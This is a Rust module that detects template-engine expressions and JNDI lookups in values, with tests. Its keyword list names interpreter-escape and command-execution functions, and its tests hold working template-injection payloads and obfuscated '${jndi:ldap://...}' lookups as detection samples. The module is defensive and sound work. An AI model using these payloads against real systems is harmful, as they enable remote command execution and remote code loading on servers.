//! Expressions of template engines in values that are no templates.

use super::finding::{FilterKind, FindingRisk, Violation};
use super::text_readings::{prefix, text_readings};

/// Maximum number of expressions that are examined.
const MAX_EXPRESSIONS: usize = 256;
/// Maximum nesting of lookups that is resolved.
const MAX_NESTED: usize = 16;
/// Longest expression that is examined, in bytes.
const MAX_EXPRESSION: usize = 2048;
/// Beginnings and ends of expressions.
const DELIMITERS: [(&str, &str); 9] = [
    ("${", "}"),
    ("{{", "}}"),
    ("{%", "%}"),
    ("<%", "%>"),
    ("#{", "}"),
    ("*{", "}"),
    ("@{", "}"),
    ("#set(", ")"),
    ("[[${", "}]]"),
];
/// Names in expressions that reach the engine, the interpreter or the environment.
const ACTIVE: [&str; 42] = [
    "__class__",
    "__mro__",
    "__subclasses__",
    "__globals__",
    "__builtins__",
    "__import__",
    "__init__",
    "__proto__",
    "constructor",
    "lipsum",
    "cycler",
    "joiner",
    "self._",
    "config.",
    "config[",
    "request.application",
    "request|attr",
    "popen",
    "os.system",
    "subprocess",
    "getruntime",
    "java.lang",
    "runtime",
    "processbuilder",
    "t(java",
    "freemarker",
    "?new()",
    "execute",
    "system(",
    "exec(",
    "eval(",
    "file.read",
    "file.open",
    "require(",
    "process.mainmodule",
    "child_process",
    "env:",
    "sys:",
    "phpinfo",
    "passthru",
    "shell_exec",
    "getclass",
];

/// Checks a value for expressions that a template engine would evaluate. Placeholders such as `{{name}}` pass.
pub(super) fn check_template(value: &str) -> Option<Violation> {
    text_readings(value).iter().find_map(|text| check_reading(text))
}

/// Checks a long text only for expressions that log libraries evaluate, which have no other use.
pub(super) fn check_lookup(value: &str) -> Option<Violation> {
    // The lookup may be spelled with nested ones: `${${lower:j}ndi:`.
    let is_lookup = value.contains("${") && collapsed(value).contains("${jndi:");
    is_lookup.then(|| Violation::new(FilterKind::Template, FindingRisk::High, "lookup that loads a program"))
}

/// Resolves `${lower:j}`, `${upper:j}`, `${::-j}` and `${env:X:-j}` to `j`.
fn collapsed(text: &str) -> String {
    let mut out: Vec<String> = vec![String::new()];
    let lower = text.to_lowercase();
    let mut rest = lower.as_str();
    while let Some(first) = rest.chars().next() {
        let mut step = first.len_utf8();
        if rest.starts_with("${") && out.len() < MAX_NESTED {
            out.push(String::new());
            step = 2;
        } else if first == '}' && out.len() > 1 {
            let inner = out.pop().unwrap_or_default();
            let value = match inner.split_once(":-") {
                Some((_, value)) => value.to_owned(),
                None => match inner.strip_prefix("lower:").or_else(|| inner.strip_prefix("upper:")) {
                    Some(value) => value.to_owned(),
                    None => format!("${{{inner}}}"),
                },
            };
            if let Some(outer) = out.last_mut() {
                outer.push_str(&value);
            }
        } else if let Some(current) = out.last_mut() {
            current.push(first);
        }
        rest = rest.get(step..).unwrap_or_default();
    }
    out.join("${")
}

fn check_reading(text: &str) -> Option<Violation> {
    if let Some(found) = check_lookup(text) {
        return Some(found);
    }
    let mut count = 0;
    for (open, close) in DELIMITERS {
        let mut rest = text;
        while let Some((_, after)) = rest.split_once(open) {
            count += 1;
            if count > MAX_EXPRESSIONS {
                return Some(Violation::new(
                    FilterKind::Template,
                    FindingRisk::Medium,
                    "value with very many expressions",
                ));
            }
            let window = prefix(after, MAX_EXPRESSION);
            let inner = window.split_once(close).map_or("", |(inner, _)| inner);
            if is_active(inner) || (open == "<%" && is_script(inner)) {
                return Some(Violation::new(
                    FilterKind::Template,
                    FindingRisk::High,
                    "expression of a template engine",
                ));
            }
            rest = after;
        }
    }
    None
}

fn is_script(inner: &str) -> bool {
    inner.starts_with('=') && inner.contains(['(', '*', '`', '\''])
}

/// Returns `true` for arithmetic on constants, calls, and names that reach the engine.
fn is_active(inner: &str) -> bool {
    let lower = inner.to_lowercase();
    let compact: String = lower.chars().filter(|char| !char.is_whitespace()).collect();
    if compact.is_empty() {
        return false;
    }
    let is_number =
        |text: &str| !text.is_empty() && text.chars().all(|char| char.is_ascii_digit() || matches!(char, '\'' | '"'));
    let bare = compact.trim_start_matches(['=', '-', '!', '{', '#']).trim_end_matches(['}', '-']);
    let arithmetic =
        bare.split_once(['*', '+', '-', '/', '%']).is_some_and(|(left, right)| is_number(left) && is_number(right));
    arithmetic
        || compact == "config"
        || compact == "self"
        || compact == "settings.secret_key"
        || ACTIVE.iter().any(|name| compact.contains(name))
        || (compact.contains('`') && bare.starts_with('`'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn expressions_are_found() {
        for value in [
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{ 7 * '7' }}",
            "*{7*7}",
            "@{7*7}",
            "{{config}}",
            "{{config.items()}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "${T(java.lang.Runtime).getRuntime().exec('x')}",
            "{% import os %}{{os.popen('id').read()}}",
            "<%= system('id') %>",
            "{{constructor.constructor('x')()}}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}${x?new()}",
            "${jndi:ldap://a.example/x}",
            "${${lower:j}ndi:ldap://a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://a}",
            "${${env:X:-j}ndi:x}",
            "{{lipsum.__globals__}}",
            "{{{7*7}}}",
            "%7B%7B7*7%7D%7D",
            "#{`id`}",
            "<%= `id` %>",
            "{{request.application}}",
            "a${jNdI:dns://x}b",
        ] {
            assert!(check_template(value).is_some(), "{value}");
        }
    }

    #[test]
    fn placeholders_pass() {
        for value in [
            "",
            "{{name}}",
            "${HOME}/x",
            "{{ user.name }}",
            "src/{{cookiecutter.name}}/x",
            "#{id}",
            "{%",
            "<% %>",
            "{{}}",
            "${VERSION}",
            "a{b}c",
            "1*1",
            "${{ matrix.os }}",
            "$(x)",
            "{{#if a}}",
            "{{date | upper}}",
        ] {
            assert_eq!(check_template(value), None, "{value}");
        }
    }

    #[test]
    fn lookups_are_found_in_prose() {
        assert!(check_lookup("Dear all,\n${${lower:J}ndi:ldap://x/a}").is_some());
        assert_eq!(check_lookup("Use {{7*7}} and ${price} to test."), None);
        assert_eq!(check_lookup(&"${".repeat(100_000)), None);
    }
}
